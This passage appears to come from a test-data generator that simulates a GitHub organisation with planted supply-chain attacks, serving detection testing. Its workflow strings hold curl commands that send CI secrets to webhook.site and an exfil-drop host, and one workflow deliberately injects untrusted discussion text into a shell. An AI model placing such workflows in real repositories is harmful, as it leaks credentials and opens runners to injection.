/**
 * A realistic recorded organisation for replay tests, docs and benchmarks: 12 repositories over
 * 30 days of developers, reviews, CI runs, dependabot, a release bot and admins, as webhook
 * deliveries, an audit-log export and job logs (folders and run-log zips), with pushed workflow
 * contents. Planted in it, modelled on the public reports: the reviewdog/action-setup and
 * tj-actions/changed-files compromises (real SHAs and windows from the shipped indicators), a
 * Shai-Hulud infection (worm branch and workflow, a private repository migrated to public), the
 * s1ngularity/Nx attack (a workflow pushed on a throw-away branch by the Actions bot, dump
 * repositories, a Sha1-Hulud runner), and a rogue contractor (protection removed, direct push,
 * write deploy key, webhook, Actions policy, environment). Benign look-alikes of each are in the
 * normal traffic. `truth` lists the planted events and the alerts they should raise.
 *
 * Deterministic for a seed. Secret values are generated here (checksums valid, never real).
 */
import { crc32 } from 'node:zlib';
import type { AlertId } from '../model.js';
import { auditEntry, envelope, hookDelivery, jobLog, logLine, pullRequest, push, review, simple, workflowJob, workflowRun, type CommitSpec, type RepoRef } from './payloads.js';
import { writeZip } from './zip-writer.js';

export interface OrgOptions {
  seed?: number;
  /** First day, UTC (YYYY-MM-DD). The default covers the March 2025 action compromises. */
  start?: string;
  days?: number;
  org?: string;
}

export interface ExpectedAlert {
  alert: AlertId;
  repository: string;
  incident: string;
}

export interface Truth {
  org: string;
  start: string;
  end: string;
  incidents: Array<{ id: string; modelledOn: string; description: string }>;
  expected: ExpectedAlert[];
  /** Evidence ids (delivery GUIDs, audit _document_ids, log paths) of planted events. */
  planted: string[];
}

export interface GeneratedOrg {
  /** Path (relative to the output folder) → content. */
  files: Map<string, string | Buffer>;
  truth: Truth;
  stats: { webhooks: number; audit: number; logs: number; plantedEvents: number };
}

const DAY = 86_400_000;
const HOUR = 3_600_000;
const MIN = 60_000;
const BASE62 = '0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz';

/** mulberry32 */
export function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

/** A token in GitHub's format (prefix, 30 base62, CRC-32 in base62): structurally valid, never issued. */
export function githubStyleToken(prefix: string, rnd: () => number): string {
  let body = '';
  for (let i = 0; i < 30; i++) body += BASE62[Math.floor(rnd() * 62)]!;
  let n = crc32(body);
  let check = '';
  do {
    check = BASE62[n % 62]! + check;
    n = Math.floor(n / 62);
  } while (n > 0);
  return prefix + body + check.padStart(6, '0');
}

const ORG_DEFAULT = 'acme-corp';
const ADMINS = ['alice-admin', 'bob-ops'];
const LEADS = ['erin-lead', 'frank-lead'];
const DEVS = ['carol-dev', 'dave-dev', 'gina', 'hank', 'ivan', 'judy', 'kim', 'leo', 'mona', 'nate', 'olga', 'pablo'];
const RELEASE_BOT = 'acme-release-bot';

interface RepoSpec extends RepoRef {
  lint?: 'changed-files' | 'changed-files-pinned' | 'reviewdog';
  release?: boolean;
  selfHosted?: boolean;
}

const REPOS: RepoSpec[] = [
  { org: '', name: 'api', visibility: 'private', lint: 'changed-files' },
  { org: '', name: 'web', visibility: 'private', lint: 'changed-files-pinned' },
  { org: '', name: 'mobile', visibility: 'private' },
  { org: '', name: 'infra', visibility: 'private', selfHosted: true },
  { org: '', name: 'docs', visibility: 'public', lint: 'changed-files' },
  { org: '', name: 'sdk-js', visibility: 'public', lint: 'changed-files', release: true },
  { org: '', name: 'sdk-python', visibility: 'public', release: true },
  { org: '', name: 'billing', visibility: 'private' },
  { org: '', name: 'auth', visibility: 'private' },
  { org: '', name: 'data-pipeline', visibility: 'private' },
  { org: '', name: 'cli', visibility: 'public', lint: 'reviewdog', release: true },
  { org: '', name: 'design-system', visibility: 'private' },
];

/** Action commits: the compromised ones come from the shipped indicators; the rest are ours. */
const SHAS = {
  checkout: '1d96c772d19495a3b5c517cd2bc0cb401ea0529f',
  setupNode: '49933ea5288caeca8642d1e84afbd3f7d6820020',
  changedFilesGood: '2f7c5bfce28377bc069a65ba4b8de0a74aa0ca32',
  changedFilesPinned: 'c3a1bb2c992d77180ae65be6ae6c166cf40f857c',
  changedFilesBad: '0e58ed8671d6b60d0890c21b07f8835ace038e67',
  reviewdogSetupGood: 'e04ffabe3898a0af8d0fb1af00c188831c4b5893',
  reviewdogSetupBad: 'f0d342d24037bb11d26b9bd8496e0808ba32e9ec',
  reviewdogShellcheck: '5ebd09ddbe2ebb471646ce234c6c8dd18663ca7c',
};

class Sim {
  readonly rnd: () => number;
  readonly hooks: Array<{ at: number; line: string }> = [];
  readonly audit: Array<{ at: number; entry: Record<string, unknown> }> = [];
  readonly files = new Map<string, string | Buffer>();
  readonly planted = new Set<string>();
  private runId = 14_000_000_000;
  private jobId = 38_000_000_000;
  private n = 0;
  logCount = 0;
  zipCount = 0;

  constructor(
    seed: number,
    readonly org: string,
  ) {
    this.rnd = prng(seed);
  }

  pick<T>(xs: readonly T[]): T {
    return xs[Math.floor(this.rnd() * xs.length)]!;
  }

  hex(len: number): string {
    let s = '';
    for (let i = 0; i < len; i++) s += '0123456789abcdef'[Math.floor(this.rnd() * 16)];
    return s;
  }

  sha(): string {
    return this.hex(40);
  }

  guid(): string {
    const h = this.hex(32);
    return `${h.slice(0, 8)}-${h.slice(8, 12)}-4${h.slice(13, 16)}-a${h.slice(17, 20)}-${h.slice(20, 32)}`;
  }

  nextRun(): number {
    return (this.runId += 1 + Math.floor(this.rnd() * 3000));
  }

  nextJob(): number {
    return (this.jobId += 1 + Math.floor(this.rnd() * 50));
  }

  /** A delivery arrives 0.2–3 s after the event; one in ten is stored in the hook-delivery API shape. */
  hook(event: string, at: number, payload: Record<string, unknown>, planted = false): string {
    const guid = this.guid();
    const received = at + 200 + Math.floor(this.rnd() * 2800);
    const record = ++this.n % 10 === 0 ? hookDelivery(event, guid, received, payload) : envelope(event, guid, received, payload);
    this.hooks.push({ at: received, line: JSON.stringify(record) });
    if (planted) this.planted.add(guid);
    return guid;
  }

  entry(action: string, at: number, actor: string, o: { repo?: string; fields?: Record<string, unknown>; planted?: boolean } = {}): string {
    const id = `${this.hex(4)}${Buffer.from(this.hex(12), 'hex').toString('base64url')}`;
    this.audit.push({ at, entry: auditEntry(action, { at: at + Math.floor(this.rnd() * 900), id, actor, org: this.org, ...(o.repo && { repo: `${this.org}/${o.repo}` }), ...(o.fields && { fields: o.fields }) }) });
    if (o.planted) this.planted.add(id);
    return id;
  }

  log(path: string, text: string, planted = false): void {
    this.files.set(`logs/${path}`, text);
    this.logCount++;
    if (planted) this.planted.add(path);
  }

  zip(path: string, jobs: Array<{ name: string; text: string }>, planted = false): void {
    const entries = jobs.map((j, i) => ({ name: `${i}_${j.name}.txt`, data: Buffer.from(j.text) }));
    // The per-step files GitHub also puts in the archive.
    jobs.forEach((j) => entries.push({ name: `${j.name}/1_Set up job.txt`, data: Buffer.from(j.text.split('\n').slice(0, 12).join('\n')) }));
    this.files.set(`logs/${path}`, writeZip(entries));
    this.logCount += jobs.length;
    this.zipCount++;
    if (planted) jobs.forEach((j, i) => this.planted.add(`${path}!${i}_${j.name}.txt`));
  }

  content(repo: string, sha: string, path: string, text: string): void {
    this.files.set(`contents/${this.org}/${repo}/${sha}/${path}`, text);
  }
}

// ---------------------------------------------------------------------------------------------
// Workflow texts (benign ones must not trip the audits that mean "exposes secrets")

function ciWorkflow(version: number): string {
  return `name: ci
on:
  push:
    branches: [main]
  pull_request:
permissions:
  contents: read
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@${SHAS.checkout} # v4
      - uses: actions/setup-node@${SHAS.setupNode} # v4
        with:
          node-version: ${18 + (version % 3) * 2}
      - run: npm ci
      - run: npm run build
  test:
    runs-on: ubuntu-latest
    needs: build
    steps:
      - uses: actions/checkout@${SHAS.checkout} # v4
      - run: npm ci && npm test
`;
}

function lintWorkflow(r: RepoSpec): string {
  const step =
    r.lint === 'reviewdog'
      ? `      - uses: reviewdog/action-shellcheck@v1\n        with:\n          github_token: \${{ secrets.GITHUB_TOKEN }}\n`
      : r.lint === 'changed-files-pinned'
        ? `      - uses: tj-actions/changed-files@${SHAS.changedFilesPinned} # v45\n`
        : `      - uses: tj-actions/changed-files@v45\n`;
  return `name: lint\non:\n  push:\n    branches: [main]\npermissions:\n  contents: read\njobs:\n  lint:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@${SHAS.checkout} # v4\n${step}      - run: npm run lint\n`;
}

const SHAI_HULUD_WORKFLOW = `on: push
jobs:
  process:
    runs-on: ubuntu-latest
    steps:
      - run: |
          curl -s -X POST -d "$(echo '\${{ toJSON(secrets) }}' | base64 -w 0 | base64 -w 0)" https://webhook.site/6d2c8f4e-93b1-4f0e-8a8e-5e1c7f2b9a10
`;

const NX_WORKFLOW = `name: check
on: push
jobs:
  check:
    runs-on: ubuntu-latest
    steps:
      - run: curl -s -d "t=\${{ secrets.NPM_TOKEN }}" https://webhook.site/0f3e7a51-2b8d-4c6a-9e1f-3d5b7c9a1e24
`;

const ROGUE_DEPLOY = `name: deploy
on:
  push:
    branches: [main]
jobs:
  deploy:
    runs-on: [self-hosted, linux]
    steps:
      - uses: actions/checkout@${SHAS.checkout} # v4
      - run: ./scripts/deploy.sh
      - run: curl -s https://collector.exfil-drop.example/u -d "k=\${{ secrets.AWS_SECRET_ACCESS_KEY }}"
`;

const DISCUSSION_WORKFLOW = `name: discussion
on:
  discussion:
jobs:
  process:
    runs-on: self-hosted
    steps:
      - run: echo \${{ github.event.discussion.body }}
`;

// ---------------------------------------------------------------------------------------------

export function generateOrg(opts: OrgOptions = {}): GeneratedOrg {
  const org = opts.org ?? ORG_DEFAULT;
  const start = Date.parse(`${opts.start ?? '2025-02-20'}T00:00:00Z`);
  const days = opts.days ?? 30;
  const end = start + days * DAY;
  const sim = new Sim(opts.seed ?? 20250220, org);
  const repos: RepoSpec[] = REPOS.map((r) => ({ ...r, org }));
  const byName = new Map(repos.map((r) => [r.name, r]));
  const heads = new Map(repos.map((r) => [r.name, sim.sha()]));
  const wfVersion = new Map(repos.map((r) => [r.name, 0]));
  const approvals = new Map<string, number>();
  const expected: ExpectedAlert[] = [];
  const incidents: Truth['incidents'] = [];
  let prNumber = 100;
  const logBudget = { benign: 45 };

  const expect = (incident: string, alert: AlertId, repo: string): void => {
    expected.push({ alert, repository: repo.includes('/') || repo === org ? repo : `${org}/${repo}`, incident });
  };

  // -------------------------------------------------------------------------------------------
  // CI: a run with its jobs, as webhooks, audit entries and (sometimes) a log.
  interface RunSpec {
    repo: RepoSpec;
    at: number;
    sha: string;
    branch: string;
    event: string;
    actor: string;
    workflow: 'ci' | 'lint' | 'release' | 'custom';
    path?: string;
    name?: string;
    jobs?: string[];
    secrets?: string[];
    runner?: string;
    labels?: string[];
    withLog?: boolean;
    planted?: boolean;
    /** Lines of the main step, for logs. */
    logLines?: (start: number) => string[];
    downloads?: Array<{ action: string; ref: string; sha: string }>;
    zip?: boolean;
  }

  const runCi = (s: RunSpec): number => {
    const runId = sim.nextRun();
    const path = s.path ?? `.github/workflows/${s.workflow}.yml`;
    // What `git show <sha>:<path>` gives an investigator: the lint workflow at the run's commit.
    if (s.workflow === 'lint') sim.content(s.repo.name, s.sha, path, lintWorkflow(s.repo));
    const name = s.name ?? s.workflow;
    const r = s.repo;
    sim.hook('workflow_run', s.at, workflowRun(r, { action: 'requested', runId, name, path, headSha: s.sha, branch: s.branch, event: s.event, actor: s.actor, at: s.at }), s.planted);
    const jobs = s.jobs ?? (s.workflow === 'ci' ? ['build', 'test'] : s.workflow === 'lint' ? ['lint'] : ['publish']);
    let t = s.at + 8_000;
    const logJobs: Array<{ name: string; text: string }> = [];
    for (const job of jobs) {
      const jobId = sim.nextJob();
      const startedAt = t + 4_000;
      const duration = (1 + Math.floor(sim.rnd() * 6)) * MIN;
      const runner = s.runner ?? (r.selfHosted ? `infra-runner-${1 + Math.floor(sim.rnd() * 3)}` : `GitHub Actions ${100 + Math.floor(sim.rnd() * 900)}`);
      const labels = s.labels ?? (r.selfHosted ? ['self-hosted', 'linux'] : ['ubuntu-latest']);
      const base = { runId, jobId, name: job, workflowName: name, headSha: s.sha, branch: s.branch, startedAt, runner, labels, sender: s.actor };
      sim.hook('workflow_job', t, workflowJob(r, { ...base, action: 'queued' }), s.planted);
      sim.hook('workflow_job', startedAt, workflowJob(r, { ...base, action: 'in_progress' }), s.planted);
      sim.hook('workflow_job', startedAt + duration, workflowJob(r, { ...base, action: 'completed', completedAt: startedAt + duration }), s.planted);
      sim.entry('workflows.prepared_workflow_job', startedAt, s.actor, {
        repo: r.name,
        planted: s.planted,
        fields: {
          job_name: job,
          workflow_run_id: runId,
          job_workflow_ref: `${org}/${r.name}/${path}@refs/heads/${s.branch}`,
          secrets_passed: s.secrets ?? (job === 'test' ? ['CODECOV_TOKEN'] : []),
          runner_name: runner,
          runner_labels: labels,
          is_hosted_runner: !labels.includes('self-hosted'),
          public_repo: r.visibility === 'public',
        },
      });
      if (s.withLog) {
        const downloads = s.downloads ?? [
          { action: 'actions/checkout', ref: 'v4', sha: SHAS.checkout },
          { action: 'actions/setup-node', ref: 'v4', sha: SHAS.setupNode },
        ];
        const text = jobLog({
          start: startedAt,
          runner,
          workflowRef: `${org}/${r.name}/${path}@refs/heads/${s.branch}`,
          downloads,
          steps: [
            { name: 'actions/checkout@v4', lines: [`Syncing repository: ${org}/${r.name}`, 'Getting Git version info', `Checking out the ref`, `HEAD is now at ${s.sha.slice(0, 7)} update`] },
            { name: job === 'lint' ? 'lint' : `npm run ${job}`, lines: s.logLines ? s.logLines(startedAt) : benignStepLines(sim, job) },
          ],
        });
        logJobs.push({ name: job, text });
      }
      t = startedAt + duration + 5_000;
    }
    sim.hook('workflow_run', t, workflowRun(r, { action: 'completed', runId, name, path, headSha: s.sha, branch: s.branch, event: s.event, actor: s.actor, at: t }), s.planted);
    sim.entry('workflows.completed_workflow_run', t, s.actor, {
      repo: r.name,
      planted: s.planted,
      fields: { workflow_run_id: runId, name, head_sha: s.sha, head_branch: s.branch, event: s.event, conclusion: 'success', started_at: new Date(s.at).toISOString(), completed_at: new Date(t).toISOString() },
    });
    if (logJobs.length) {
      if (s.zip) sim.zip(`${org}/${r.name}/${runId}.zip`, logJobs, s.planted);
      else for (const j of logJobs) sim.log(`${org}/${r.name}/${runId}/${j.name}.txt`, j.text, s.planted);
    }
    return runId;
  };

  const lintDownloads = (r: RepoSpec, at: number): Array<{ action: string; ref: string; sha: string }> => {
    const base = [{ action: 'actions/checkout', ref: 'v4', sha: SHAS.checkout }];
    if (r.lint === 'changed-files') return [...base, { action: 'tj-actions/changed-files', ref: 'v45', sha: SHAS.changedFilesGood }];
    if (r.lint === 'changed-files-pinned') return [...base, { action: 'tj-actions/changed-files', ref: SHAS.changedFilesPinned, sha: SHAS.changedFilesPinned }];
    if (r.lint === 'reviewdog') {
      void at;
      return [...base, { action: 'reviewdog/action-shellcheck', ref: 'v1', sha: SHAS.reviewdogShellcheck }, { action: 'reviewdog/action-setup', ref: 'v1', sha: SHAS.reviewdogSetupGood }];
    }
    return base;
  };

  const wantLog = (): boolean => logBudget.benign > 0 && sim.rnd() < 0.19 && logBudget.benign-- > 0;

  // -------------------------------------------------------------------------------------------
  // Pull requests: branch, commits, PR, CI, review, merge, CI on main, branch deleted.
  const pullRequestFlow = (r: RepoSpec, at: number, o: { author?: string; workflowChange?: boolean; dependabot?: boolean } = {}): number => {
    const author = o.dependabot ? 'dependabot[bot]' : (o.author ?? sim.pick(DEVS.filter((d) => d !== 'carol-dev' && d !== 'dave-dev').concat(LEADS)));
    const branch = o.dependabot ? `dependabot/github_actions/actions/setup-node-4.${1 + Math.floor(sim.rnd() * 3)}.0` : `${sim.pick(['feature', 'fix', 'chore'])}/${sim.hex(6)}`;
    const number = ++prNumber;
    const base = heads.get(r.name)!;
    let t = at;
    sim.hook('create', t, simple(r, author, { ref: branch, ref_type: 'branch', master_branch: 'main', pusher_type: 'user' }));
    const commits = o.dependabot ? 1 : 1 + Math.floor(sim.rnd() * 3);
    let prev = base;
    for (let i = 0; i < commits; i++) {
      t += 5 * MIN + Math.floor(sim.rnd() * 40 * MIN);
      const sha = sim.sha();
      const touchesWorkflow = o.dependabot || (o.workflowChange && i === 0);
      const spec: CommitSpec = touchesWorkflow ? { id: sha, modified: ['.github/workflows/ci.yml'], message: o.dependabot ? 'Bump actions/setup-node' : 'ci: cache dependencies' } : { id: sha, modified: [`src/${sim.hex(4)}.ts`] };
      sim.hook('push', t, push(r, { ref: `refs/heads/${branch}`, before: i === 0 ? '0'.repeat(40) : prev, after: sha, pusher: author, commits: [spec], created: i === 0, at: t }));
      if (touchesWorkflow) sim.content(r.name, sha, '.github/workflows/ci.yml', ciWorkflow(wfVersion.get(r.name)! + 1));
      prev = sha;
    }
    t += 3 * MIN;
    sim.hook('pull_request', t, pullRequest(r, { action: 'opened', number, author, head: branch, headSha: prev, sender: author, at: t }));
    sim.entry('pull_request.create', t, author, { repo: r.name, fields: { pull_request_id: number * 7, public_repo: r.visibility === 'public' } });
    runCi({ repo: r, at: t + 20_000, sha: prev, branch, event: 'pull_request', actor: author, workflow: 'ci', withLog: wantLog() });
    t += 30 * MIN + Math.floor(sim.rnd() * 4 * HOUR);
    const reviewer = sim.pick([...DEVS.filter((d) => d !== author && d !== 'carol-dev' && d !== 'dave-dev'), ...LEADS.filter((l) => l !== author)]);
    sim.hook('pull_request_review', t, review(r, { number, reviewer, state: 'approved', at: t }));
    t += 10 * MIN;
    const merger = o.dependabot || sim.rnd() < 0.5 ? reviewer : author;
    const mergeSha = sim.sha();
    sim.hook('pull_request', t, pullRequest(r, { action: 'closed', number, author, head: branch, headSha: prev, merged: true, mergedBy: merger, mergeSha, sender: merger, at: t }));
    sim.entry('pull_request.merge', t, merger, { repo: r.name, fields: { pull_request_id: number * 7, public_repo: r.visibility === 'public' } });
    const workflow = o.dependabot || o.workflowChange;
    sim.hook('push', t + 2_000, push(r, { ref: 'refs/heads/main', before: base, after: mergeSha, pusher: merger, commits: [{ id: mergeSha, message: `Merge pull request #${number}`, ...(workflow ? { modified: ['.github/workflows/ci.yml'] } : { modified: ['src/index.ts'] }) }], at: t + 2_000 }));
    if (workflow) {
      wfVersion.set(r.name, wfVersion.get(r.name)! + 1);
      sim.content(r.name, mergeSha, '.github/workflows/ci.yml', ciWorkflow(wfVersion.get(r.name)!));
    }
    heads.set(r.name, mergeSha);
    runCi({ repo: r, at: t + 15_000, sha: mergeSha, branch: 'main', event: 'push', actor: merger, workflow: 'ci', withLog: wantLog(), zip: sim.rnd() < 0.3 });
    if (r.lint) {
      runCi({ repo: r, at: t + 20_000, sha: mergeSha, branch: 'main', event: 'push', actor: merger, workflow: 'lint', withLog: wantLog(), downloads: lintDownloads(r, t) });
    }
    t += 2 * MIN;
    sim.hook('delete', t, simple(r, merger, { ref: branch, ref_type: 'branch', pusher_type: 'user' }));
    sim.hook('push', t + 500, push(r, { ref: `refs/heads/${branch}`, before: prev, after: '0'.repeat(40), pusher: merger, commits: [], deleted: true, at: t + 500 }));
    return t;
  };

  const releaseFlow = (r: RepoSpec, at: number): void => {
    const version = `v1.${Math.floor(sim.rnd() * 20)}.${Math.floor(sim.rnd() * 10)}`;
    const sha = sim.sha();
    // A bot release commit pushed straight to the default branch: no workflow touched.
    sim.hook('push', at, push(r, { ref: 'refs/heads/main', before: heads.get(r.name)!, after: sha, pusher: RELEASE_BOT, commits: [{ id: sha, message: `chore(release): ${version}`, modified: ['package.json', 'CHANGELOG.md'] }], at }));
    heads.set(r.name, sha);
    sim.hook('push', at + 3_000, push(r, { ref: `refs/tags/${version}`, before: '0'.repeat(40), after: sha, pusher: RELEASE_BOT, commits: [], created: true, at: at + 3_000 }));
    sim.hook('release', at + 60_000, simple(r, RELEASE_BOT, { action: 'published', release: { tag_name: version, published_at: new Date(at + 60_000).toISOString(), created_at: new Date(at).toISOString() } }));
    runCi({ repo: r, at: at + 70_000, sha, branch: version, event: 'release', actor: RELEASE_BOT, workflow: 'release', secrets: ['NPM_TOKEN', 'GITHUB_TOKEN'], withLog: wantLog(), logLines: (s) => releaseLines(s) });
  };

  // -------------------------------------------------------------------------------------------
  // Admin traffic: regular, tightening, read-only, to trusted destinations, on private repos.
  const adminAction = (at: number, actor: string): void => {
    const r = sim.pick(repos);
    const kind = Math.floor(sim.rnd() * 7);
    switch (kind) {
      case 0: {
        // Tightening branch protection: one more approval required (never fewer).
        const from = approvals.get(r.name) ?? 1;
        if (from >= 4) break;
        approvals.set(r.name, from + 1);
        sim.entry('protected_branch.update_required_approving_review_count', at, actor, { repo: r.name, fields: { name: 'main', required_approving_review_count: from + 1, public_repo: r.visibility === 'public' } });
        sim.hook('branch_protection_rule', at, simple(r, actor, { action: 'edited', rule: { name: 'main', required_approving_review_count: from + 1, updated_at: new Date(at).toISOString() }, changes: { required_approving_review_count: { from } } }));
        break;
      }
      case 1: {
        const title = `ci-deploy-${sim.hex(4)}`;
        sim.entry('public_key.create', at, actor, { repo: r.name, fields: { title, read_only: true, fingerprint: `SHA256:${sim.hex(20)}`, public_repo: r.visibility === 'public' } });
        sim.hook('deploy_key', at, simple(r, actor, { action: 'created', key: { id: 1, title, read_only: true, created_at: new Date(at).toISOString(), verified: true } }));
        break;
      }
      case 2:
        sim.entry('hook.create', at, actor, { repo: r.name, fields: { hook_id: 1 + Math.floor(sim.rnd() * 1e6), name: 'web', events: ['push', 'pull_request'], active: true, config: { url: sim.pick(['https://hooks.slack.com/services/T0001/B0001/abcdefghijklmnop', 'https://ci.acme-corp.example/github', 'https://chat.acme-corp.example/hooks/gh']), content_type: 'json' } } });
        break;
      case 3:
        sim.entry('environment.add_protection_rule', at, actor, { repo: r.name, fields: { environment_name: 'production', name: 'required_reviewers', public_repo: r.visibility === 'public' } });
        break;
      case 4:
        sim.entry('repo.update_member', at, actor, { repo: r.name, fields: { user: sim.pick(DEVS), old_permission: 'read', permission: 'write', public_repo: r.visibility === 'public' } });
        break;
      case 5:
        sim.entry('protected_branch.update_require_code_owner_review', at, actor, { repo: r.name, fields: { name: 'main', require_code_owner_review: true } });
        break;
      default:
        if (byName.get('infra')) sim.entry('repo.register_self_hosted_runner', at, actor, { repo: 'infra', fields: { public_repo: false, runner_name: `infra-runner-${1 + Math.floor(sim.rnd() * 3)}` } });
    }
  };

  // Initial state the admins set up in the first days (history for the baselines).
  for (const r of repos) {
    const at = start + 2 * HOUR + Math.floor(sim.rnd() * 20 * HOUR);
    const actor = sim.pick(ADMINS);
    sim.entry('protected_branch.create', at, actor, {
      repo: r.name,
      fields: { name: 'main', pull_request_reviews_enforcement_level: 'non_admins', required_approving_review_count: 1, admin_enforced: true, allow_force_pushes_enforcement_level: 'off', allow_deletions_enforcement_level: 'off', required_status_checks_enforcement_level: 'everyone', public_repo: r.visibility === 'public' },
    });
  }
  // Where the secrets live (what `ir exposure` needs to say what to rotate where).
  sim.entry('org.create_actions_secret', start + 3 * HOUR, 'alice-admin', { fields: { key: 'NPM_TOKEN', visibility: 'selected' } });
  sim.entry('org.create_actions_secret', start + 3.1 * HOUR, 'alice-admin', { fields: { key: 'CODECOV_TOKEN', visibility: 'all' } });
  for (const name of ['api', 'infra']) sim.entry('repo.create_actions_secret', start + 3.5 * HOUR, 'bob-ops', { repo: name, fields: { key: 'AWS_SECRET_ACCESS_KEY', public_repo: false } });
  sim.entry('repo.set_actions_fork_pr_approvals_policy', start + 5 * HOUR, 'alice-admin', { repo: 'sdk-js', fields: { policy: 'all_external_contributors', public_repo: true } });
  sim.entry('org.update_actions_settings', start + 6 * HOUR, 'alice-admin', { fields: { old_policy: 'all', new_policy: 'selected' } });
  sim.entry('org.set_default_workflow_permissions', start + 6.5 * HOUR, 'bob-ops', {});

  // -------------------------------------------------------------------------------------------
  // Normal days.
  for (let d = 0; d < days; d++) {
    const dayStart = start + d * DAY;
    const weekday = new Date(dayStart).getUTCDay() % 6 !== 0;
    for (const r of repos) {
      const prs = weekday ? (sim.rnd() < 0.33 ? 1 : 0) + (sim.rnd() < 0.08 ? 1 : 0) : sim.rnd() < 0.05 ? 1 : 0;
      for (let i = 0; i < prs; i++) {
        pullRequestFlow(r, dayStart + 8 * HOUR + Math.floor(sim.rnd() * 8 * HOUR), { workflowChange: sim.rnd() < 0.12 });
      }
      // Feature-branch pushes that edit workflows, before any PR: a benign look-alike.
      if (weekday && sim.rnd() < 0.04) {
        const at = dayStart + 10 * HOUR + Math.floor(sim.rnd() * 6 * HOUR);
        const sha = sim.sha();
        const dev = sim.pick(DEVS.slice(2));
        sim.hook('push', at, push(r, { ref: `refs/heads/wip/${dev}-ci`, before: heads.get(r.name)!, after: sha, pusher: dev, commits: [{ id: sha, modified: ['.github/workflows/ci.yml'] }], created: true, at }));
        sim.content(r.name, sha, '.github/workflows/ci.yml', ciWorkflow(wfVersion.get(r.name)! + 2));
      }
      if (d % 7 === 2 && r.name !== 'design-system') pullRequestFlow(r, dayStart + 6 * HOUR + Math.floor(sim.rnd() * HOUR), { dependabot: true });
      if (r.release && d % 7 === 4) releaseFlow(r, dayStart + 15 * HOUR + Math.floor(sim.rnd() * HOUR));
      if (r.selfHosted && weekday) runCi({ repo: r, at: dayStart + 3 * HOUR + Math.floor(sim.rnd() * HOUR), sha: heads.get(r.name)!, branch: 'main', event: 'schedule', actor: 'github-actions[bot]', workflow: 'custom', name: 'nightly', path: '.github/workflows/nightly.yml', jobs: ['terraform-plan'], withLog: wantLog() });
    }
    if (weekday) {
      const n = 1 + Math.floor(sim.rnd() * 3);
      for (let i = 0; i < n; i++) adminAction(dayStart + 9 * HOUR + Math.floor(sim.rnd() * 9 * HOUR), sim.pick([...ADMINS, ...LEADS]));
      if (sim.rnd() < 0.3) {
        const r = sim.pick(repos);
        sim.hook('secret_scanning_alert', dayStart + 13 * HOUR, simple(r, 'github-advanced-security[bot]', { action: 'created', alert: { number: Math.floor(sim.rnd() * 90), secret_type: 'slack_incoming_webhook_url', secret_type_display_name: 'Slack Incoming Webhook URL', push_protection_bypassed: false, created_at: new Date(dayStart + 13 * HOUR).toISOString() } }));
      }
    }
  }

  // Benign look-alikes of the compromised actions: used outside the window, or pinned to a safe
  // commit inside it.
  const quietLog = (lines: number) => (s: number) => benignStepLinesAt(sim, s, lines);
  runCi({ repo: byName.get('api')!, at: Date.parse('2025-03-05T11:20:00Z'), sha: heads.get('api')!, branch: 'main', event: 'push', actor: 'gina', workflow: 'lint', withLog: true, downloads: lintDownloads(byName.get('api')!, 0), logLines: quietLog(40) });
  runCi({ repo: byName.get('web')!, at: Date.parse('2025-03-14T17:05:00Z'), sha: heads.get('web')!, branch: 'main', event: 'push', actor: 'hank', workflow: 'lint', withLog: true, downloads: lintDownloads(byName.get('web')!, 0), logLines: quietLog(40) });
  runCi({ repo: byName.get('docs')!, at: Date.parse('2025-03-17T10:00:00Z'), sha: heads.get('docs')!, branch: 'main', event: 'push', actor: 'ivan', workflow: 'lint', withLog: true, downloads: lintDownloads(byName.get('docs')!, 0), logLines: quietLog(40) });
  runCi({ repo: byName.get('cli')!, at: Date.parse('2025-03-10T16:00:00Z'), sha: heads.get('cli')!, branch: 'main', event: 'push', actor: 'judy', workflow: 'lint', withLog: true, downloads: lintDownloads(byName.get('cli')!, 0), logLines: quietLog(40) });
  // A test step printing documentation example keys and masked values.
  runCi({ repo: byName.get('billing')!, at: Date.parse('2025-03-06T13:00:00Z'), sha: heads.get('billing')!, branch: 'main', event: 'push', actor: 'kim', workflow: 'ci', withLog: true, logLines: (s) => exampleKeyLines(s) });

  // -------------------------------------------------------------------------------------------
  // Incident 1: reviewdog/action-setup@v1 (2025-03-11 18:42–20:31 UTC), via action-shellcheck.
  {
    const id = 'reviewdog-2025';
    incidents.push({ id, modelledOn: 'reviewdog/action-setup@v1 compromise (CVE-2025-30154)', description: 'cli (public) lint job ran reviewdog/action-shellcheck@v1, which downloaded action-setup@v1 at the malicious commit; the payload printed the runner memory (secrets) double-base64 encoded.' });
    const r = byName.get('cli')!;
    const token = githubStyleToken('ghs_', sim.rnd);
    const npm = githubStyleToken('npm_', sim.rnd);
    runCi({
      repo: r,
      at: Date.parse('2025-03-11T19:05:00Z'),
      sha: heads.get('cli')!,
      branch: 'main',
      event: 'push',
      actor: 'leo',
      workflow: 'lint',
      withLog: true,
      planted: true,
      secrets: ['NPM_TOKEN'],
      downloads: [
        { action: 'actions/checkout', ref: 'v4', sha: SHAS.checkout },
        { action: 'reviewdog/action-shellcheck', ref: 'v1', sha: SHAS.reviewdogShellcheck },
        { action: 'reviewdog/action-setup', ref: 'v1', sha: SHAS.reviewdogSetupBad },
      ],
      logLines: (s) => memoryDumpLines(s, { github_token: token, NPM_TOKEN: npm }),
    });
    expect(id, 'compromised-action-used', 'cli');
    expect(id, 'secret-in-log', 'cli');
    expect(id, 'secret-in-log', 'cli');
  }

  // Incident 2: tj-actions/changed-files (2025-03-14/15): three repositories ran the bad commit.
  {
    const id = 'tj-actions-2025';
    incidents.push({ id, modelledOn: 'tj-actions/changed-files compromise (CVE-2025-30066)', description: 'api (private), sdk-js and docs (public) ran changed-files@v45 resolved to 0e58ed8; the step printed secrets double-base64 encoded.' });
    const when: Array<[string, string]> = [
      ['api', '2025-03-14T16:12:00Z'],
      ['sdk-js', '2025-03-14T21:40:00Z'],
      ['docs', '2025-03-15T08:03:00Z'],
    ];
    for (const [name, at] of when) {
      const r = byName.get(name)!;
      const secrets: Record<string, string> = { github_token: githubStyleToken('ghs_', sim.rnd) };
